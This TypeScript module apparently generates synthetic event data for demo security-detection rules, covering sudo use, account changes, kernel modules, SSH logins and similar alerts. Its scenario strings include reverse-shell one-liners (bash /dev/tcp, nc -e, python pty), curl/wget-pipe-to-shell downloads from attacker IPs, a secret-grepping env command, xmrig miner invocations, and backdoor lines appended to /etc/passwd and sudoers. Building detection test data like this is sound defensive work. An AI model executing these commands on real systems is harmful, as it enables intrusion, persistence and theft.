/**
 * Event generators, one per demo rule: given a host and the event times, they produce the events that
 * made the rule fire. Every event matches its rule's filter and none matches a suppression, so the data
 * tells a consistent story (same actor and session across the events of one alert).
 * @module
 */

import type { Random } from './prng.js';
import type { HostRole } from './hosts.js';
import type { Platform } from './platforms.js';
import type { Actor, EventData, EventHost } from './events.js';
import { AUTOMATION, ENGINEERS, HOSTILE_IPS, OFFICE_IPS, ROOT, SERVICE_ACCOUNT } from './accounts.js';
import {
  asRoot,
  connectEvent,
  daemon,
  execEvent,
  fileEvent,
  interactive,
  loginEvent,
  randomPid,
  syscallEvent,
} from './events.js';

export interface ScenarioHost extends EventHost {
  role: HostRole;
  platform: Platform;
}

/** Builds one event per timestamp (ascending) for one alert. */
export type Scenario = (rng: Random, host: ScenarioHost, timestamps: readonly number[]) => EventData[];

const SERVICE_UNIT: Record<HostRole, string> = {
  web: 'nginx',
  api: 'orders-api',
  worker: 'sidekiq',
  db: 'postgresql-15',
  cache: 'redis-server',
  k8s: 'kubelet',
  bastion: 'ssh',
  ci: 'gitlab-runner',
  vpn: 'wg-quick@wg0',
  monitoring: 'prometheus',
  directory: 'slapd',
};

const DEBUG_PACKAGES = ['tcpdump', 'strace', 'htop', 'jq', 'gdb', 'telnet', 'nmap', 'lsof', 'iotop', 'sysstat'];

const isDebian = (host: ScenarioHost): boolean => host.platform.packageManagers.some(([, cmd]) => cmd === 'apt-get');
const shellExe = (host: ScenarioHost): string => (isDebian(host) ? '/usr/bin/dash' : '/usr/bin/bash');
const hostileIp = (rng: Random): string => rng.pick(HOSTILE_IPS);

function engineerSession(rng: Random): Actor {
  return interactive(rng, rng.pick(ENGINEERS));
}

/** The account a compromised service on this host would run as (containers on k8s run as root). */
function serviceActor(rng: Random, host: ScenarioHost): Actor {
  const cwd = host.role === 'web' ? '/var/www/html' : host.role === 'api' || host.role === 'worker' ? '/srv/app' : '/';
  return daemon(rng, SERVICE_ACCOUNT[host.role], cwd);
}

const sudo: Scenario = (rng, host, timestamps) => {
  const roll = rng.next();
  const account =
    roll < 0.7 ? rng.pick(ENGINEERS) : roll < 0.85 ? { user: host.platform.cloudUser, uid: 1000 } : AUTOMATION[0]!;
  const actor = account.user === 'deploy' ? { ...interactive(rng, account), tty: '(none)' } : interactive(rng, account);
  const unit = SERVICE_UNIT[host.role];
  const commands: string[][] =
    account.user === 'deploy'
      ? [
          ['systemctl', 'restart', unit],
          ['/opt/deploy/bin/release', '--sha', rng.hex(7)],
          ['systemctl', 'status', unit, '--no-pager'],
        ]
      : [
          ['systemctl', 'restart', unit],
          ['journalctl', '-u', unit, '--since', '1 hour ago'],
          ['tail', '-n', '200', '/var/log/syslog'],
          ['-i'],
          ['su', '-'],
          ['ss', '-tlnp'],
          ['lsof', '-i', ':443'],
          ['vim', '/etc/hosts'],
          ...(host.role === 'db' ? [['-u', 'postgres', 'psql', '-c', 'select * from pg_stat_replication']] : []),
          ...(host.role === 'k8s' ? [['crictl', 'ps', '-a']] : []),
          ...(host.role === 'ci' ? [['docker', 'system', 'prune', '-af']] : []),
          ...(host.role === 'web' ? [['nginx', '-t']] : []),
          ...(rng.chance(0.05) ? [['cat', '/etc/shadow']] : []),
        ];
  return timestamps.map((t) => execEvent(rng, host, t, actor, '/usr/bin/sudo', ['sudo', ...rng.pick(commands)]));
};

const packageManager: Scenario = (rng, host, timestamps) => {
  const user = engineerSession(rng);
  const root = asRoot(user);
  return timestamps.map((t) => {
    const [exe, cmd] = rng.pick(host.platform.packageManagers);
    const pkg = rng.pick(DEBUG_PACKAGES);
    const options: Array<[Actor, string[]]> =
      cmd === 'apt-get' || cmd === 'apt'
        ? [
            [root, [cmd, 'install', '-y', pkg]],
            [root, [cmd, 'update']],
            [root, [cmd, 'upgrade', '-y']],
            [user, cmd === 'apt' ? ['apt', 'list', '--upgradable'] : ['apt-get', '-s', 'upgrade']],
          ]
        : cmd === 'dpkg'
          ? [
              [root, ['dpkg', '-i', `/tmp/${pkg}_amd64.deb`]],
              [user, ['dpkg', '-l']],
            ]
          : cmd === 'rpm'
            ? [[root, ['rpm', '-Uvh', `/tmp/${pkg}.x86_64.rpm`]]]
            : [
                [root, [cmd, 'install', '-y', pkg]],
                [root, [cmd, 'update', '-y', 'openssl']],
                [user, [cmd, 'check-update']],
              ];
    const [actor, args] = rng.pick(options);
    return execEvent(rng, host, t, actor, exe, args, cmd);
  });
};

const accountChange: Scenario = (rng, host, timestamps) => {
  const actor = asRoot(engineerSession(rng));
  const admins = isDebian(host) ? 'sudo' : 'wheel';
  const who = rng.pick(ENGINEERS).user;
  const options: Array<[string, string[]]> = [
    ['/usr/sbin/useradd', ['useradd', '-m', '-s', '/bin/bash', rng.pick(['svc-backup', 'contractor1', 'datadog', 'tmpuser'])]],
    ['/usr/sbin/usermod', ['usermod', '-aG', admins, who]],
    ['/usr/sbin/usermod', ['usermod', '-aG', 'docker', who]],
    ['/usr/sbin/groupadd', ['groupadd', '-g', '2001', 'analytics']],
    ['/usr/bin/gpasswd', ['gpasswd', '-d', who, admins]],
  ];
  return timestamps.map((t) => {
    const [exe, args] = rng.pick(options);
    return execEvent(rng, host, t, actor, exe, args);
  });
};

const OUTBOUND_PORTS = [4444, 1337, 6667, 8333, 9001, 31337, 2222, 5555, 8081, 6697];

const outboundUnusualPort: Scenario = (rng, host, timestamps) => {
  const variant = rng.int(0, 4);
  if (variant === 4) {
    // false positive: the application calling a partner API on a non-standard TLS port
    const actor = serviceActor(rng, host);
    const proc = { pid: randomPid(rng), exe: '/usr/bin/node', args: ['node', '/srv/app/dist/server.js'] };
    return timestamps.map((t) => connectEvent(rng, host, t, actor, proc, '198.51.100.200', 8443));
  }
  const actor = variant === 3 ? engineerSession(rng) : serviceActor(rng, host);
  const dst = hostileIp(rng);
  const port = rng.pick(OUTBOUND_PORTS);
  const proc = [
    { pid: randomPid(rng), exe: host.platform.python, command: 'python3', args: ['python3', '/tmp/.cache/.s.py'] },
    { pid: randomPid(rng), exe: '/usr/bin/perl', args: ['perl', '/var/tmp/.ICE/bot.pl'] },
    { pid: randomPid(rng), exe: host.platform.netcat[0], command: host.platform.netcat[1], args: [host.platform.netcat[1], dst, String(port)] },
    { pid: randomPid(rng), exe: '/usr/bin/curl', args: ['curl', '-sk', `http://${dst}:${port}/`] },
  ][variant]!;
  return timestamps.map((t) => connectEvent(rng, host, t, actor, proc, dst, port));
};

const passwdModified: Scenario = (rng, host, timestamps) => {
  const roll = rng.next();
  if (roll < 0.12) {
    // backdoor account appended by a compromised cron job
    const actor = daemon(rng, ROOT);
    const line = `${rng.pick(['sysupd', 'systemd-net', 'mysqld'])}:x:0:0::/root:/bin/bash`;
    return timestamps.map((t) =>
      fileEvent(rng, host, t, actor, 'write', '/etc/passwd', '/usr/bin/bash', ['bash', '-c', `echo "${line}" >> /etc/passwd`]),
    );
  }
  const engineer = engineerSession(rng);
  const actor = asRoot(engineer);
  const options: Array<[string, string[]]> = [
    ['/usr/sbin/useradd', ['useradd', '-m', '-s', '/bin/bash', rng.pick(['svc-backup', 'contractor1', 'datadog'])]],
    ['/usr/sbin/usermod', ['usermod', '-s', '/usr/sbin/nologin', rng.pick(ENGINEERS).user]],
    ['/usr/sbin/vipw', ['vipw']],
    ['/usr/bin/chsh', ['chsh', '-s', '/bin/zsh', engineer.user]],
  ];
  return timestamps.map((t) => {
    const [exe, args] = rng.pick(options);
    return fileEvent(rng, host, t, actor, 'rename', '/etc/passwd', exe, args);
  });
};

const privilegeFiles: Scenario = (rng, host, timestamps) => {
  if (rng.chance(0.15)) {
    const actor = daemon(rng, ROOT);
    const line = `${SERVICE_ACCOUNT[host.role].user} ALL=(ALL) NOPASSWD:ALL`;
    return timestamps.map((t) =>
      fileEvent(rng, host, t, actor, 'write', '/etc/sudoers', '/usr/bin/bash', ['bash', '-c', `echo "${line}" >> /etc/sudoers`]),
    );
  }
  const actor = asRoot(engineerSession(rng));
  const options: Array<['write' | 'rename', string, string, string[]]> = [
    ['rename', '/etc/sudoers', '/usr/sbin/visudo', ['visudo']],
    ['rename', '/etc/sudoers.d/90-cloud-init-users', '/usr/sbin/visudo', ['visudo', '-f', '/etc/sudoers.d/90-cloud-init-users']],
    ['write', '/etc/sudoers.d/deploy', '/usr/bin/tee', ['tee', '/etc/sudoers.d/deploy']],
    ['rename', '/etc/shadow', '/usr/bin/passwd', ['passwd', rng.pick(ENGINEERS).user]],
    ['rename', '/etc/shadow', '/usr/sbin/chpasswd', ['chpasswd']],
  ];
  return timestamps.map((t) => {
    const [syscall, filename, exe, args] = rng.pick(options);
    return fileEvent(rng, host, t, actor, syscall, filename, exe, args);
  });
};

const kernelModule: Scenario = (rng, host, timestamps) => {
  const roll = rng.next();
  let actor: Actor;
  let modules: string[][];
  if (roll < 0.08) {
    actor = daemon(rng, ROOT, '/tmp');
    modules = [['insmod', '/tmp/.ICE-unix/diamorphine.ko']];
  } else if (roll < 0.55) {
    actor = daemon(rng, ROOT);
    modules =
      host.role === 'k8s'
        ? [['modprobe', 'ip_vs'], ['modprobe', 'ip_vs_rr'], ['modprobe', 'xt_REDIRECT'], ['modprobe', 'nf_conntrack_netlink']]
        : host.role === 'vpn'
          ? [['modprobe', 'wireguard']]
          : [['modprobe', 'veth'], ['modprobe', 'xt_addrtype'], ['modprobe', 'nf_nat']];
  } else {
    actor = asRoot(engineerSession(rng));
    modules = [['modprobe', 'nf_conntrack_ftp'], ['modprobe', 'tcp_bbr'], ['modprobe', 'dummy'], ['modprobe', 'nbd']];
  }
  return timestamps.map((t) => {
    const args = rng.pick(modules);
    return syscallEvent(rng, host, t, actor, 'finit_module', '/usr/bin/kmod', args, args[0]);
  });
};

const sshRoot: Scenario = (rng, host, timestamps) => {
  const roll = rng.next();
  const src =
    roll < 0.5 ? `10.0.0.${rng.int(10, 60)}` : roll < 0.8 ? rng.pick(OFFICE_IPS) : hostileIp(rng);
  return timestamps.map((t) => {
    const actor = rng.chance(0.8) ? interactive(rng, ROOT) : { ...interactive(rng, ROOT), tty: '(none)' };
    return loginEvent(rng, host, t, actor, src);
  });
};

const reverseShell: Scenario = (rng, host, timestamps) => {
  const actor = serviceActor(rng, host);
  const ip = hostileIp(rng);
  const port = rng.pick([4444, 443, 8443, 9001, 53]);
  const variants: Array<[string, string, string[]]> = [
    ['/usr/bin/bash', 'bash', ['bash', '-c', `bash -i >& /dev/tcp/${ip}/${port} 0>&1`]],
    [host.platform.netcat[0], host.platform.netcat[1], [host.platform.netcat[1], '-e', '/bin/sh', ip, String(port)]],
    [
      host.platform.python,
      'python3',
      [
        'python3',
        '-c',
        `import socket,os,pty;s=socket.socket();s.connect(("${ip}",${port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`,
      ],
    ],
  ];
  const [exe, command, args] = rng.pick(variants);
  // persistence via cron retries the same payload every minute or so
  return timestamps.map((t) => execEvent(rng, host, t, actor, exe, args, command));
};

const BASE58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';

const cryptoMiner: Scenario = (rng, host, timestamps) => {
  const actor = host.role === 'ci' || host.role === 'k8s' ? daemon(rng, SERVICE_ACCOUNT[host.role], '/tmp') : serviceActor(rng, host);
  let wallet = '4';
  for (let i = 0; i < 94; i++) wallet += BASE58[rng.int(0, BASE58.length - 1)];
  const pool = `stratum+tcp://${hostileIp(rng)}:${rng.pick([3333, 5555, 7777, 14444])}`;
  const variants: Array<[string, string[]]> = [
    ['/tmp/.X11-unix/.rsync/xmrig', ['./xmrig', '-o', pool, '-u', wallet, '-p', 'x', '-k', '--donate-level', '1']],
    ['/var/tmp/kdevtmpfsi', ['/var/tmp/kdevtmpfsi']],
    ['/dev/shm/.x/sysupdate', ['./sysupdate', '-o', pool, '-u', wallet, '--cpu-max-threads-hint', '75']],
  ];
  const [exe, args] = rng.pick(variants);
  // the dropper respawns the miner when it is killed
  return timestamps.map((t) => execEvent(rng, host, t, actor, exe, args));
};

const webShell: Scenario = (rng, host, timestamps) => {
  const account =
    host.role === 'api' || host.role === 'worker' ? SERVICE_ACCOUNT[host.role] : SERVICE_ACCOUNT.web;
  const actor = daemon(rng, account, host.role === 'web' ? '/var/www/html/uploads' : '/srv/app');
  const ip = hostileIp(rng);
  const recon = [
    'id',
    'uname -a;cat /etc/os-release',
    'whoami',
    `curl -fsSL http://${ip}/x.sh | sh`,
    `wget -qO- http://${ip}:8080/k | bash`,
    'cat /etc/passwd',
    'ls -la /var/www/html/uploads',
    'env | grep -i -E "key|secret|token"',
  ];
  const benign = ['git rev-parse HEAD', 'convert /tmp/upload-8a1f.png -resize 800x /tmp/thumb-8a1f.png'];
  const commands = rng.chance(0.2) ? benign : recon;
  return timestamps.map((t) => {
    const useBash = rng.chance(0.3);
    const exe = useBash ? '/usr/bin/bash' : shellExe(host);
    const command = useBash ? 'bash' : 'sh';
    return execEvent(rng, host, t, actor, exe, [command, '-c', rng.pick(commands)], command);
  });
};

const authorizedKeys: Scenario = (rng, host, timestamps) => {
  const roll = rng.next();
  if (roll < 0.2) {
    const actor = daemon(rng, ROOT);
    return timestamps.map((t) =>
      fileEvent(rng, host, t, actor, 'write', '/root/.ssh/authorized_keys', '/usr/bin/tee', [
        'tee',
        '-a',
        '/root/.ssh/authorized_keys',
      ]),
    );
  }
  const actor = engineerSession(rng);
  const file = `/home/${actor.user}/.ssh/authorized_keys`;
  const sshCopyId =
    'umask 077 ; mkdir -p .ssh && { [ -z `tail -1c .ssh/authorized_keys 2>/dev/null` ] || echo >> .ssh/authorized_keys || exit 1; } && cat >> .ssh/authorized_keys || exit 1';
  return timestamps.map((t) =>
    rng.chance(0.5)
      ? fileEvent(rng, host, t, { ...actor, tty: '(none)' }, 'write', file, shellExe(host), ['sh', '-c', sshCopyId], 'sh')
      : fileEvent(rng, host, t, actor, 'rename', file, host.platform.vim, ['vim', '.ssh/authorized_keys'], 'vim'),
  );
};

/** Event generators by name (referenced from the rule table). */
export const SCENARIOS = {
  sudo,
  packageManager,
  accountChange,
  outboundUnusualPort,
  passwdModified,
  privilegeFiles,
  kernelModule,
  sshRoot,
  reverseShell,
  cryptoMiner,
  webShell,
  authorizedKeys,
} satisfies Record<string, Scenario>;

export type ScenarioName = keyof typeof SCENARIOS;
